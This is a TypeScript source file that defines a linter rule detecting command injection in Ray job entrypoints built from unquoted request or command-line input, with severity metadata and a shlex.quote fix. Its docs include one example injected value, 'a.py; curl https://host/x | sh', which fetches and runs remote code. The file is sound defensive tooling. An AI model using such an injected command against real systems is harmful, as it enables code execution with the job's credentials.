// The command of a Ray job is put together from what other people send.
import type { Option, OutsideText } from '../../ray/facts/process.ts';
import { links } from '../../ray/links.ts';
import type { FixProposal, Report } from '../report.ts';
import { defineRule, onOption } from '../rule.ts';

export const rule = defineRule({
  meta: {
    id: 'command-injection',
    title: 'Ray job command built from unquoted input',
    severity: 'error',
    since: '0.1.0',
    cwe: [78],
    security: {
      score: 8.8,
      vector: 'CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:H',
      because: 'Anyone who controls the input can run commands in the cluster.',
    },
    fix: 'review',
    docs: {
      finds:
        'The entrypoint of a Ray job contains text from a web request, a prompt or the command line, and nothing quotes it. Anyone who writes that text can run any command in the cluster.',
      why: 'Ray gives the entrypoint to a shell. A text such as `a.py; curl https://host/x | sh` therefore runs two programs, with the rights of the job: its files, cloud roles and the token of the cluster.',
      fix: 'Wrap each part in `shlex.quote(...)`, or join a list of words with `shlex.join([...])`. Better: accept only names from a list, or numbers. Quotes that you write around the part yourself protect nothing, because the text can end them.',
      reports: [
        { situation: 'A part of the entrypoint comes from a web request', severity: 'error' },
        { situation: 'The whole entrypoint comes from a web request', severity: 'warning' },
        {
          situation:
            'A part comes from `sys.argv`, `argparse`, click, Typer or `input()`: only who starts the program decides',
          severity: 'information',
        },
      ],
      silent: [
        '`shlex.quote` and `shlex.join` are around it.',
        'It is a number, a UUID, an enum or one of `choices`.',
        'The program compares it with allowed values (`if name not in ALLOWED`), matches it (`fullmatch`) or passes it to a function that checks it, before it is used.',
        'It comes from the environment, a file or a constant; or from a function of another file.',
        'The whole entrypoint comes from the command line: that is what such a program is for.',
      ],
      versions:
        '`ray job submit -- python "$1"` quotes each word on 2.58.1 and 2.60.0; 2.49.2 and 2.52.0 join the words and leave `;` as it is.',
      examples: ['an f-string with an argument of a request', 'quoted, or not a text'],
      sources: [links.jobSubmission, { title: 'Which shell gets the entrypoint of a job', measured: 'M31' }],
    },
  },
  checks: [
    onOption(['entrypoint'], { roles: ['job'] }, (option) => option.outside && reportOn(option, option.outside)),
  ],
});

function reportOn({ span }: Option, { origin, isWhole, quotes }: OutsideText): Report | undefined {
  if (origin === 'command line')
    return isWhole
      ? undefined
      : {
          span,
          severity: 'information',
          confidence: 'medium',
          message: 'A space or `;` in this argument changes the command that the cluster runs.',
          fixes: quoted(span, quotes),
        };
  if (isWhole)
    return {
      span,
      severity: 'warning',
      confidence: 'medium',
      message: 'Anyone who can send this request decides which command the cluster runs.',
    };
  return {
    span,
    message: 'Anyone who can send this request can run any command in the cluster.',
    fixes: quoted(span, quotes),
  };
}

function quoted(span: Option['span'], quotes: OutsideText['quotes']): FixProposal[] {
  if (!quotes) return [];
  const changes = [{ kind: 'quote-for-shell', span, quotes } as const];
  return [{ title: 'Quote it with shlex.quote()', safety: 'review', preferred: true, changes }];
}
